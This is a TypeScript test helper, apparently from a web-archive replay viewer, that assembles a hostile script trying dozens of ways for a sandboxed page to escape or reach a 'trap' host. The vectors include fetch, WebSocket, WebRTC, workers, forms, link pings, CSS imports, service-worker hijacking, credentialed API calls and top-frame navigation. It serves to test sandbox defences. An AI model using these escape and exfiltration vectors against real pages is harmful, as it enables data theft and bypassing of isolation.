/**
 * A script that tries every way out of a page that we know of, in the page's own realm and in fresh ones that a rewriter
 * of scripts has not touched. `trap` is a host that must never be reached, `room` the reading room. What it could do at all
 * it leaves in `document.title`, so that a test knows that it ran. WebRTC stands alone, because Chromium ends the whole page
 * that tries it where it is forbidden.
 */
export function hostileScript(trap: string, room: string, isByWebRtc = false): string {
  return `(${attack.toString()})(${[trap, room, isByWebRtc].map((one) => JSON.stringify(one)).join()})`.replaceAll(
    '</',
    '<\\/',
  )
}

function attack(trap: string, room: string, isByWebRtc: boolean): void {
  const won: string[] = []
  const ways: [string, (realm: Window & typeof globalThis, mark: string) => unknown][] = [
    ['fetch', (w, m) => w.fetch(`http://${trap}/fetch-${m}`, { mode: 'no-cors', referrerPolicy: 'no-referrer' })],
    ['keepalive', (w, m) => w.fetch(`http://${trap}/keep-${m}`, { mode: 'no-cors', keepalive: true })],
    [
      'xhr',
      (w, m) => {
        const asked = new w.XMLHttpRequest()
        asked.open('GET', `http://${trap}/xhr-${m}`)
        asked.send()
      },
    ],
    ['beacon', (w, m) => w.navigator.sendBeacon(`http://${trap}/beacon-${m}`, 'x')],
    ['websocket', (w, m) => new w.WebSocket(`ws://${trap}/ws-${m}`)],
    ['eventsource', (w, m) => new w.EventSource(`http://${trap}/es-${m}`)],
    ['webtransport', (w, m) => new w.WebTransport(`https://${trap}/wt-${m}`)],
    [
      'webrtc',
      (w) => {
        const peer = new w.RTCPeerConnection({ iceServers: [{ urls: `stun:${trap}` }] })
        peer.createDataChannel('x')
        return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      },
    ],
    [
      'image',
      (w, m) => {
        new w.Image().src = `http://${trap}/img-${m}`
      },
    ],
    ['font', (w, m) => new w.FontFace('x', `url(http://${trap}/font-${m})`).load()],
    [
      'room',
      (w) =>
        w
          .fetch(`${room}/api/search?q=x`, { credentials: 'include', referrerPolicy: 'no-referrer' })
          .then((answer) => answer.ok && won.push('REACHED THE ROOM')),
    ],
    ['import', (w, m) => w.eval(`import('http://${trap}/module-${m}')`)],
    [
      'worker',
      (w, m) => {
        const code = `fetch('http://${trap}/worker-${m}',{mode:'no-cors'});new WebSocket('ws://${trap}/wws-${m}')`
        return new w.Worker(w.URL.createObjectURL(new w.Blob([code], { type: 'text/javascript' })))
      },
    ],
    [
      'shared',
      (w, m) => new w.SharedWorker(`data:text/javascript,fetch('http://${trap}/shared-${m}',{mode:'no-cors'})`),
    ],
    ['register', (w) => w.navigator.serviceWorker.register('/worker.js?evil', { scope: '/' })],
    [
      'unregister',
      async (w) => {
        for (const one of await w.navigator.serviceWorker.getRegistrations()) await one.unregister()
      },
    ],
    [
      'tell',
      (w) =>
        w.navigator.serviceWorker.controller?.postMessage({
          msg_type: 'addColl',
          name: 'evil',
          type: 'live',
          file: { sourceUrl: `http://${trap}/coll.wacz` },
          extraConfig: { prefix: `http://${trap}/`, isLive: true },
        }),
    ],
    ['api', (w) => w.fetch('/w/api/c/create', { method: 'POST', body: '{}' })],
    [
      'read-top',
      (w) => {
        if (w.top!.document.querySelector('.replay-head')) won.push('READ THE ROOM')
      },
    ],
    [
      'open',
      (w, m) => {
        if (w.open(`http://${trap}/open-${m}`, 'evil')) won.push('OPENED')
      },
    ],
    [
      'link',
      (w, m) => {
        const link = w.document.createElement('a')
        link.href = `http://${trap}/link-${m}`
        link.target = '_blank'
        link.ping = `http://${trap}/ping-${m}`
        w.document.documentElement.append(link)
        link.click()
      },
    ],
    [
      'form',
      (w, m) => {
        const form = w.document.createElement('form')
        w.Element.prototype.setAttribute.call(form, 'action', `http://${trap}/form-${m}`)
        form.method = 'post'
        form.target = '_top'
        w.document.documentElement.append(form)
        form.submit()
      },
    ],
    [
      'cookie',
      (w) => {
        w.document.cookie = 'evil=1; path=/'
        w.document.cookie = 'evil=1; path=/; domain=localhost'
        w.localStorage.setItem('evil', '1')
      },
    ],
  ]
  // biome-ignore format: one line a tag
  const tags = [
    ['link', 'href', { rel: 'preconnect' }], ['link', 'href', { rel: 'dns-prefetch' }], ['link', 'href', { rel: 'prefetch' }],
    ['link', 'href', { rel: 'preload', as: 'image' }], ['link', 'href', { rel: 'modulepreload' }], ['link', 'href', { rel: 'prerender' }],
    ['link', 'href', { rel: 'stylesheet' }], ['link', 'href', { rel: 'icon' }], ['link', 'href', { rel: 'manifest' }],
    ['script', 'src', {}], ['iframe', 'src', {}], ['embed', 'src', {}], ['object', 'data', {}], ['video', 'src', { autoplay: '' }],
    ['audio', 'src', { autoplay: '' }], ['video', 'poster', {}], ['track', 'src', {}], ['input', 'src', { type: 'image' }],
    ['img', 'srcset', {}], ['base', 'href', {}], ['portal', 'src', {}], ['fencedframe', 'src', {}],
  ] as const
  const realms: (Window & typeof globalThis)[] = [window]
  for (const src of [
    'about:blank',
    '/',
    '/w/nowhere/mp_/http://not.kept/',
    '/static/wombat.js',
    '/plain/none',
    'data:text/html,x',
  ]) {
    const frame = document.createElement('iframe')
    frame.src = src
    document.documentElement.append(frame)
    frame.addEventListener('load', () => {
      try {
        const realm = frame.contentWindow as Window & typeof globalThis
        if (realm.document) run(realm, encodeURIComponent(src))
      } catch {}
    })
  }
  const srcdoc = document.createElement('iframe')
  srcdoc.srcdoc = `<meta http-equiv="refresh" content="0;url=http://${trap}/srcdoc"><script>fetch('http://${trap}/srcdoc-fetch',{mode:'no-cors'})</script>`
  document.documentElement.append(srcdoc)

  function run(realm: Window & typeof globalThis, mark: string): void {
    for (const [name, attempt] of ways) {
      if ((name === 'webrtc') !== isByWebRtc) continue
      try {
        Promise.resolve(attempt(realm, mark)).then(
          () => won.push(`${mark}:${name}`),
          () => {},
        )
      } catch {}
    }
    for (const [tag, attribute, more] of tags) {
      try {
        // A fresh realm's own functions: nobody has wrapped them.
        const element = realm.document.createElement(tag)
        for (const [name, value] of Object.entries(more))
          realm.Element.prototype.setAttribute.call(element, name, value)
        realm.Element.prototype.setAttribute.call(
          element,
          attribute,
          `http://${trap}/tag-${tag}-${'rel' in more ? more.rel : attribute}-${mark}`,
        )
        realm.document.head.append(element)
      } catch {}
    }
    const style = realm.document.createElement('style')
    style.textContent = `@import url(http://${trap}/css-${mark}); html { background: url(http://${trap}/bg-${mark}) }`
    realm.document.head.append(style)
  }
  for (const realm of realms) run(realm, 'page')
  setTimeout(() => {
    document.title = `RAN ${won.join(' ')}`
  }, 3000)
  // Last, because they may succeed in leaving: the window, or the frame itself, goes elsewhere.
  const leaving: (() => void)[] = [
    () => {
      window.top!.location.href = `http://${trap}/top`
    },
    () => {
      window.parent.location.href = `http://${trap}/parent`
    },
    () => {
      const frame = window.frameElement
      frame?.removeAttribute('sandbox')
    },
    () => {
      const link = document.createElement('a')
      Element.prototype.setAttribute.call(link, 'href', `http://${trap}/anchor`)
      document.body.append(link)
      link.click()
    },
    () => {
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = `0;url=http://${trap}/meta`
      document.head.append(meta)
    },
    () => {
      window.location.href = `http://${trap}/location`
    },
  ]
  for (const [at, leave] of leaving.entries()) setTimeout(leave, 6000 + at * 200)
}
